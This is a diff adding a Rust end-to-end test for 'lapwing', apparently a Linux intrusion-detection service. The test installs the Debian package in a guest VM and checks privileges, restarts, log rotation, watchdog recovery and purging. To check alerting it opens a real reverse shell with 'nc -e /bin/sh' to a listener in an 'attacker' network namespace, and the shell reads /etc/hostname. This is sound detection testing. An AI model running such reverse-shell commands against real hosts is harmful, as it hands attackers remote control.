@@ -1,0 +1,181 @@
+//! The Debian package, installed on a machine with systemd: from `dpkg -i` to `dpkg --purge`.
+//!
+//! `cargo xtask test` makes the package and runs this as root. A real reverse shell is opened in the guest, to a host
+//! in a network namespace of the guest's.
+#![expect(
+    clippy::unwrap_used,
+    reason = "all of this is test code, and clippy takes only its test functions for such"
+)]
+
+/// The machine.
+mod guest;
+
+use std::io::{Read as _, Write as _};
+use std::path::PathBuf;
+use std::process::Stdio;
+use std::time::Duration;
+
+use guest::Guest;
+use serde_json::Value as Json;
+
+/// Set by `cargo xtask test`: where the package lies.
+const PACKAGE: &str = "LAPWING_PACKAGE";
+/// How long what is waited for may take: far longer than it does.
+const WAIT: Duration = Duration::from_secs(60);
+const LOG: &str = "/var/log/lapwing/alerts.ndjson";
+const RULE: &str = "Potential Reverse Shell via Suspicious Child Process";
+/// The capabilities that the service keeps: the bits of CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE, CAP_PERFMON, CAP_BPF.
+const CAPABILITIES: u64 = 1 << 2 | 1 << 19 | 1 << 38 | 1 << 39;
+
+#[test]
+fn the_service_from_installation_to_purge() {
+    let Some(package) = std::env::var_os(PACKAGE).map(PathBuf::from) else {
+        println!("skipped: {PACKAGE} names no package, as it does under `cargo xtask test`");
+        return;
+    };
+    let mut guest = Guest::boot(package.parent().unwrap());
+    let install = format!("dpkg --install /package/{}", package.file_name().unwrap().to_str().unwrap());
+
+    guest.run(&install);
+    it_is_ready(&guest);
+    it_has_few_privileges(&guest);
+    an_attacker_is_there(&guest);
+    a_reverse_shell_is_alerted_to(&guest, 4001, 1);
+
+    guest.run("systemctl restart lapwing");
+    a_reverse_shell_is_alerted_to(&guest, 4002, 2);
+    its_log_can_be_rotated(&guest);
+    it_is_replaced_when_it_dies_or_hangs(&guest);
+
+    guest.run("sed -i 's/^#level = .*/level = \"debug\"/' /etc/lapwing/lapwing.toml");
+    let before = main_pid(&guest);
+    guest.run(&install);
+    it_is_ready(&guest);
+    assert_ne!(main_pid(&guest), before, "an upgrade restarts it");
+    guest.run("grep -q '^level = .debug' /etc/lapwing/lapwing.toml");
+
+    guest.reboot();
+    guest.until("systemctl is-active lapwing", WAIT);
+    an_attacker_is_there(&guest);
+    a_reverse_shell_is_alerted_to(&guest, 4003, 2);
+    it_stops_cleanly(&guest);
+    it_can_be_removed_and_purged(&guest);
+}
+
+/// A unit of `Type=notify` is active once it has said that hooks are attached and rules loaded.
+fn it_is_ready(guest: &Guest) {
+    assert_eq!(guest.run("systemctl is-active lapwing"), "active");
+    assert_eq!(guest.run("systemctl is-enabled lapwing"), "enabled");
+    let status: Json = serde_json::from_str(&guest.run("lapwing status --json")).unwrap();
+    assert!(status["rules"]["enabled"].as_u64().unwrap() >= 7, "{status}");
+    assert_eq!(status["rules"]["refused_files"], 0, "{status}");
+    guest.run("lapwing check");
+    guest.run("lapwing test");
+}
+
+fn it_has_few_privileges(guest: &Guest) {
+    let pid = main_pid(guest);
+    assert_eq!(guest.run(&format!("ps -o user= -p {pid}")), "lapwing");
+    for set in ["CapEff", "CapPrm", "CapBnd"] {
+        let bits = guest.run(&format!("sed -n 's/^{set}:\\s*//p' /proc/{pid}/status"));
+        assert_eq!(u64::from_str_radix(&bits, 16).unwrap(), CAPABILITIES, "{set}");
+    }
+    assert_eq!(guest.run("stat -c '%U %a' /var/lib/lapwing /var/log/lapwing"), "lapwing 700\nlapwing 750");
+    assert_eq!(guest.run("stat -c '%U %a' /etc/lapwing/lapwing.toml"), "root 640");
+    guest.run("systemd-analyze security --no-pager --threshold=30 lapwing");
+}
+
+/// A host at 10.88.0.2, in a network namespace of the guest's.
+fn an_attacker_is_there(guest: &Guest) {
+    guest.run(
+        "ip netns add attacker
+         ip link add toward type veth peer name eth0 netns attacker
+         ip address add 10.88.0.1/24 dev toward
+         ip link set toward up
+         ip -n attacker address add 10.88.0.2/24 dev eth0
+         ip -n attacker link set eth0 up
+         ip -n attacker link set lo up",
+    );
+}
+
+/// Opens a reverse shell, uses it, and finds it in the alert log, as alert number `count` there.
+fn a_reverse_shell_is_alerted_to(guest: &Guest, port: u16, count: usize) {
+    let listen = format!("exec ip netns exec attacker nc -l -p {port}");
+    let mut attacker =
+        guest.shell(&listen).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("the attacker");
+    guest.until(&format!("ip netns exec attacker ss -Hltn 'sport = :{port}' | grep -q ."), WAIT);
+    let mut victim =
+        guest.shell(&format!("nc -e /bin/sh 10.88.0.2 {port}; true")).spawn().expect("the victim");
+    attacker.stdin.take().unwrap().write_all(b"echo $((6 * 7)) on $(cat /etc/hostname); exit\n").unwrap();
+    victim.wait().unwrap();
+    let mut heard = String::new();
+    attacker.stdout.take().unwrap().read_to_string(&mut heard).unwrap();
+    attacker.wait().unwrap();
+    assert!(heard.starts_with("42 on "), "the attacker has a shell: {heard:?}");
+
+    guest.until(&format!("test $(wc -l < {LOG}) -ge {count}"), WAIT);
+    let lines = guest.run(&format!("cat {LOG}"));
+    let alerts: Vec<Json> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(alerts.len(), count, "{lines}");
+    let alert = alerts.last().unwrap();
+    assert_eq!(alert["message"], RULE, "{alert}");
+    assert_eq!(alert["event"]["kind"], "alert", "{alert}");
+    assert_eq!(alert["destination"]["ip"], "10.88.0.2", "{alert}");
+    assert_eq!(alert["destination"]["port"], port, "{alert}");
+    assert_eq!(alert["process"]["args"][1], "-e", "{alert}");
+    let hash = guest.run("sha256sum $(readlink -f /bin/nc)");
+    assert_eq!(alert["process"]["hash"]["sha256"].as_str(), hash.split(' ').next(), "{alert}");
+}
+
+/// As logrotate does it: the file is moved away, and the agent told.
+fn its_log_can_be_rotated(guest: &Guest) {
+    let before = main_pid(guest);
+    guest.run(&format!("mv {LOG} {LOG}.old && systemctl reload lapwing"));
+    guest.until(&format!("test -e {LOG}"), WAIT);
+    assert_eq!(guest.run(&format!("stat -c '%U %a' {LOG}")), "lapwing 640");
+    a_reverse_shell_is_alerted_to(guest, 4010, 1);
+    assert_eq!(main_pid(guest), before, "a reload is no restart");
+}
+
+fn it_is_replaced_when_it_dies_or_hangs(guest: &Guest) {
+    // So that the test does not take as long as a real watchdog.
+    guest.run(
+        "mkdir -p /run/systemd/system/lapwing.service.d
+         printf '[Service]\\nRestartSec=100ms\\nWatchdogSec=4s\\n' > /run/systemd/system/lapwing.service.d/soon.conf
+         systemctl daemon-reload && systemctl restart lapwing",
+    );
+    for signal in ["KILL", "STOP"] {
+        let before = main_pid(guest);
+        guest.run(&format!("kill -{signal} {before}"));
+        let is_new =
+            format!("test $(systemctl show -P MainPID lapwing) != {before} && systemctl is-active lapwing");
+        guest.until(&is_new, WAIT);
+    }
+    guest.run("rm -r /run/systemd/system/lapwing.service.d && systemctl daemon-reload");
+}
+
+fn it_stops_cleanly(guest: &Guest) {
+    guest.run("systemctl stop lapwing");
+    assert_eq!(guest.run("systemctl show -P Result lapwing"), "success");
+    assert_eq!(guest.run("systemctl show -P ExecMainStatus lapwing"), "0");
+    assert_eq!(guest.run("systemctl is-active lapwing; true"), "inactive");
+}
+
+fn it_can_be_removed_and_purged(guest: &Guest) {
+    guest.run("systemctl start lapwing && dpkg --remove lapwing");
+    assert_eq!(guest.run("pgrep -x lapwing; true"), "");
+    guest.run(&format!(
+        "test -s {LOG} && test -s /var/lib/lapwing/lapwing.db && test -e /etc/lapwing/lapwing.toml"
+    ));
+    guest.run("dpkg --purge lapwing");
+    for place in
+        ["/var/lib/lapwing", "/var/log/lapwing", "/etc/lapwing", "/usr/share/lapwing", "/run/lapwing"]
+    {
+        guest.run(&format!("test ! -e {place}"));
+    }
+    assert_eq!(guest.run("systemctl list-unit-files --no-legend 'lapwing*'; true"), "");
+}
+
+fn main_pid(guest: &Guest) -> String {
+    guest.run("systemctl show -P MainPID lapwing")
+}
